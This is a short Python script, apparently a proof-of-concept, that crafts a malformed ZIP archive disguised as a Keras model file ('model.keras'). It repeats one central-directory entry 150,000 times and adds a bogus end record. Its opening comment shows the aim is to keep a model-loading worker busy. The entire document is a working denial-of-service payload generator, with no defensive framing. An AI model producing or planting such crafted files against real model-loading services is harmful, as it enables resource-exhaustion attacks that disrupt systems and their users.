# failed: a list of a hundred thousand members keeps the worker busy
import struct

entry = struct.pack("<4s4B4HL2L5H2L", b"PK\1\2", 20, 3, 20, 0, 0, 0, 0, 0, 0, 10, 10, 0, 0, 0, 0, 0, 0, 0)
entries = entry * 150_000
with open("/evidence/model.keras", "wb") as file:
    file.write(entries + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 65535, 65535, len(entries), 0, 0))
